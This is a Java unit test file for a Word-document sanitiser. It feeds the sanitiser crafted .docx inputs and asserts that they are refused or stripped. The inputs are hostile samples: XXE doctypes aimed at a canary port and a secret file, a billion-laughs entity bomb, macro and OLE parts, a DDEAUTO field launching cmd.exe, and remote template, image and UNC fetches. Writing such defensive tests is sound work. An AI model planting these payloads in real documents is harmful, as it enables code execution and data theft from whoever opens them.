package quire.convert;

import static org.assertj.core.api.Assertions.assertThat;
import static quire.convert.Verdicts.advice;
import static quire.convert.Verdicts.bytes;
import static quire.convert.Verdicts.join;
import static quire.convert.Verdicts.judged;
import static quire.convert.Verdicts.refusal;
import static quire.testkit.Docx.paragraph;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import quire.testkit.Docx;

/** S-54 to S-56: a Word document opens nothing that it names, starts nothing and fetches nothing. */
class WordDangersTest {

    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    @TempDir
    Path folder;

    @Test
    void s54_opensNothingThatADoctypeNames() throws IOException {
        try (ServerSocketChannel canary = ServerSocketChannel.open()) {
            canary.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))
                    .configureBlocking(false);
            int port = ((InetSocketAddress) canary.getLocalAddress()).getPort();
            Path secret = Files.writeString(folder.resolve("secret"), "CANARY");
            for (String address : new String[] {
                "http://127.0.0.1:" + port + "/x.dtd", secret.toUri().toString()
            }) {
                for (String doctype : doctypes(address)) {
                    for (String part : WordFileTest.parts().keySet()) {
                        assertRefused(part, doctype.getBytes(StandardCharsets.UTF_8));
                    }
                }
            }
            assertThat(canary.accept()).as("a caller").isNull();
        }
    }

    private static String[] doctypes(String address) {
        return new String[] {
            "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"" + address + "\"><x/>",
            "<!-- first --><?first?>\n<!DOCTYPE x PUBLIC \"-//X\" \"" + address + "\"><x/>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + address + "\">]><x>&e;</x>",
            "<!DOCTYPE x [<!ENTITY % e SYSTEM \"" + address + "\"> %e;]><x/>"
        };
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16", "UTF-16LE", "UTF-16BE", "UTF-8", "ISO-8859-1", "IBM037"})
    void s54_findsADoctypeInEveryEncoding(String encoding) {
        String declared = encoding.startsWith("UTF-16") ? "UTF-16" : encoding;
        String laughs =
                "<?xml version=\"1.0\" encoding=\"" + declared + "\"?><!-- ha --><!DOCTYPE l [<!ENTITY a \"ha\">"
                        + "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><l>&c;</l>";
        byte[] bytes = laughs.getBytes(Charset.forName(encoding));
        assertRefused("word/document.xml", bytes);
        assertRefused("customXml/item1.xml", bytes);
        assertRefused("word/media/image1.svg", bytes);
        assertRefused("word/unknown.bin", bytes);
        byte[] mark = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        assertRefused("docProps/core.xml", encoding.equals("UTF-8") ? join(mark, bytes) : bytes);
    }

    private static void assertRefused(String part, byte[] xml) {
        Map<String, byte[]> parts = WordFileTest.parts();
        parts.put(part, xml);
        assertThat(refusal(Docx.zip(parts))).as(part).isEqualTo(Refusal.DOCTYPE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/vbaProject.bin",
                "word/vbaData.xml",
                "word/activeX/activeX1.xml",
                "word/embeddings/oleObject1.bin",
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                "word/oleObject7.bin",
                "VBAPROJECT.BIN"
            })
    void s55_refusesPrograms(String part) {
        byte[] docx =
                Docx.line("x").part(part, "application/octet-stream", "<x/>").bytes();
        assertThat(refusal(docx)).isEqualTo(Refusal.PROGRAMS);
        assertThat(Refusal.PROGRAMS.isSuspicious()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/vnd.ms-word.document.macroEnabled.main+xml",
                "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
                "application/vnd.ms-office.vbaProject",
                "application/vnd.ms-office.activeX+xml",
                "application/vnd.openxmlformats-officedocument.oleObject",
                "application/vnd.openxmlformats-officedocument.package",
                "application/vnd.ms-office.webextension+xml"
            })
    void s55_refusesProgramsByTheirType(String type) {
        assertThat(refusal(
                        Docx.line("x").part("word/harmless.xml", type, "<x/>").bytes()))
                .isEqualTo(Refusal.PROGRAMS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"oleObject", "package", "control", "aFChunk", "vbaProject", "attachedToolbars"})
    void s55_refusesPointersToPrograms(String kind) {
        for (String mode : new String[] {"", " TargetMode=\"External\""}) {
            assertThat(refusal(Docx.line("x")
                            .relationship("rId9", OFFICE + kind, "a.bin", mode)
                            .bytes()))
                    .isEqualTo(Refusal.PROGRAMS);
        }
    }

    @Test
    void s55_refusesAFilmFromTheWeb() {
        assertThat(refusal(Docx.body("<w:p><x:webVideoPr xmlns:x=\"y\" embeddedHtml=\"&lt;iframe\"/></w:p>")
                        .bytes()))
                .isEqualTo(Refusal.PROGRAMS);
    }

    @ParameterizedTest
    @CsvSource({
        "image,       http://203.0.113.1/x.png, External",
        "image,       file:///etc/hostname,     Internal",
        "image,       \\\\server\\share\\x.png, External",
        "frame,       http://203.0.113.1/,      External",
        "subDocument, chapter.docx,             External",
        "theme,       http://203.0.113.1/,      Internal",
        "font,        //203.0.113.1/x,          ''",
        "customXml,   http://203.0.113.1/,      eXTERNAL"
    })
    void s56_refusesPointersThatFetch(String kind, String target, String mode) {
        byte[] docx = Docx.line("x")
                .relationship("rId9", OFFICE + kind, target, " TargetMode=\"" + mode + "\"")
                .bytes();
        assertThat(refusal(docx)).isEqualTo(Refusal.FETCHES);
        assertThat(advice(docx)).contains(kind.toLowerCase(java.util.Locale.ROOT));
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://example.org/?a=1&amp;b=2", "HTTP://example.org", "mailto:a@example.org", "#part"})
    void s56_leavesOrdinaryLinks(String target) {
        byte[] docx = link(target);
        assertThat(judged(docx).content().bytes()).isEqualTo(docx);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "file:///H:/team/list.xlsx",
                "javascript:alert(1)",
                "\\\\server\\share",
                "ms-word:ofe|u|x",
                "x.exe"
            })
    void s56_removesLinksThatLeadElsewhere(String target) {
        byte[] docx = link(target);
        Judged judged = judged(docx);
        byte[] kept = judged.content().bytes();
        assertThat(judged.removed()).containsExactly("links to places that are not on the web");
        assertThat(Docx.xml(kept, "word/_rels/document.xml.rels"))
                .contains("Id=\"rId9\"", "Target=\"#\"")
                .doesNotContain(target);
        assertThat(Docx.xml(kept, "word/document.xml")).isEqualTo(Docx.xml(docx, "word/document.xml"));
        assertThat(judged(kept).content().bytes()).as("a second time").isEqualTo(kept);
    }

    private static byte[] link(String target) {
        return Docx.body("<w:p><w:hyperlink r:id=\"rId9\">" + Docx.run("there") + "</w:hyperlink></w:p>")
                .relationship("rId9", OFFICE + "hyperlink", target, " TargetMode=\"External\"")
                .bytes();
    }

    @Test
    void s56_removesTheTemplateThatADocumentWouldFetch() {
        byte[] docx = withSettings(
                "<w:zoom w:percent=\"100\"/><w:attachedTemplate r:id=\"rId1\"/><w:mailMerge><w:dataSource r:id=\"rId2\"/>"
                        + "</w:mailMerge><w:defaultTabStop w:val=\"720\"/>",
                "<Relationship Id=\"rId1\" Type=\"" + OFFICE + "attachedTemplate\" TargetMode=\"External\" "
                        + "Target=\"http://203.0.113.1/evil.dotm\"/><Relationship Id=\"rId2\" Type=\"" + OFFICE
                        + "mailMergeSource\" TargetMode=\"External\" Target=\"file:///H:/people.xlsx\"/>");
        Judged judged = judged(docx);
        byte[] kept = judged.content().bytes();
        assertThat(Docx.xml(kept, "word/settings.xml"))
                .contains("w:zoom", "w:defaultTabStop", "mc:Ignorable=\"w14\"", "xmlns:w14=")
                .doesNotContain("attachedTemplate", "mailMerge", "dataSource");
        assertThat(Docx.xml(kept, "word/_rels/settings.xml.rels")).doesNotContain("evil", "people");
        assertThat(judged.removed())
                .containsExactly(
                        "the link to the template that the document was written in",
                        "the link to the list that letters were made from");
        assertThat(Docx.parts(kept).keySet()).isEqualTo(Docx.parts(docx).keySet());
        assertThat(judged(kept).content().bytes()).isEqualTo(kept);
    }

    static byte[] withSettings(String settings, String pointers) {
        Map<String, byte[]> parts = new LinkedHashMap<>(Docx.parts(Docx.line("Kept words")
                .story("settings", "settings", "settings", "")
                .bytes()));
        parts.put(
                "word/settings.xml",
                Docx.root("settings mc:Ignorable=\"w14\"", settings)
                        .replace("</w:settings mc:Ignorable=\"w14\">", "</w:settings>")
                        .getBytes(StandardCharsets.UTF_8));
        parts.put(
                "word/_rels/settings.xml.rels",
                ("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + pointers
                                + "</Relationships>")
                        .getBytes(StandardCharsets.UTF_8));
        return Docx.zip(parts);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
                " dde excel x",
                "INCLUDEPICTURE \"http://203.0.113.1/x.png\" \\* MERGEFORMAT",
                "INCLUDETEXT\"\\\\\\\\server\\\\x\"",
                "LINK Excel.Sheet.8 x",
                "IMPORT x.png",
                "DATABASE \\d x"
            })
    void s56_refusesFieldsThatFetch(String field) {
        String escaped = Docx.escape(field);
        String spread = "<w:p>" + mark("begin") + instruction(escaped.substring(0, 3)) + "</w:p><w:p>"
                + instruction(escaped.substring(3)) + mark("separate") + Docx.run("old") + mark("end") + "</w:p>";
        String open = "<w:p>" + mark("begin") + instruction(escaped) + "</w:p>";
        String simple = "<w:p><w:fldSimple w:instr=\"" + escaped.replace("\"", "&quot;") + "\">" + Docx.run("old")
                + "</w:fldSimple></w:p>";
        for (String body : new String[] {spread, open, simple}) {
            assertThat(refusal(Docx.body(body).bytes())).isEqualTo(Refusal.FETCHES);
            assertThat(refusal(Docx.line("x")
                            .story("header1", "header", "hdr", body)
                            .bytes()))
                    .isEqualTo(Refusal.FETCHES);
        }
    }

    @Test
    void s56_refusesFieldsThatHideTheirNameInOthers() {
        String quote =
                mark("begin") + instruction(" QUOTE 68 68 69 ") + mark("separate") + Docx.run("DDE") + mark("end");
        for (String around : new String[] {"", " ", "DD"}) {
            String body = "<w:p>" + mark("begin") + instruction(around) + quote + instruction(" c:\\\\x") + mark("end")
                    + "</w:p>";
            assertThat(refusal(Docx.body(body).bytes())).isEqualTo(Refusal.FETCHES);
        }
    }

    @Test
    void s56_leavesOrdinaryFields() {
        String page = mark("begin") + instruction(" PAGE ") + mark("separate") + Docx.run("1") + mark("end");
        String body = "<w:p>" + mark("begin") + instruction(" IF ") + page + instruction(" > 1 \"LINK\" \"DDE\" ")
                + mark("separate") + Docx.run("x") + mark("end") + "</w:p><w:p><w:fldSimple w:instr=\" LINKED \"/>"
                + mark("begin") + instruction("=") + page + instruction("+1") + mark("end") + "</w:p>"
                + paragraph("DDEAUTO is only a word here");
        byte[] docx = Docx.body(body).bytes();
        assertThat(judged(docx).content().bytes()).isEqualTo(docx);
    }

    @Test
    void s56_refusesAPictureThatADrawingFetches() {
        String drawing =
                "<w:p><w:r><w:pict><v:shape><v:imagedata src=\"http://203.0.113.1/x\"/></v:shape></w:pict></w:r></w:p>";
        assertThat(refusal(Docx.body(drawing).bytes())).isEqualTo(Refusal.FETCHES);
    }

    private static String mark(String type) {
        return "<w:r><w:fldChar w:fldCharType=\"" + type + "\"/></w:r>";
    }

    private static String instruction(String text) {
        return "<w:r><w:instrText xml:space=\"preserve\">" + text + "</w:instrText></w:r>";
    }
}
